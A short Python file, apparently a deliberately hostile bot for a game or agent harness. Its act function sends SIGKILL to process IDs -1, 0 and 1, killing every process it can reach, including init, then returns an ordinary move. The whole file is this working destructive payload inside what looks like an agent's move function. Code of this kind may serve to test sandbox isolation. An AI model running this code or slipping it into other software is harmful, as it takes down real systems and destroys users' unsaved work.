# Kills every process that it can reach.
import os
import signal


def act(state):
    for pid in (-1, 0, 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 'a'
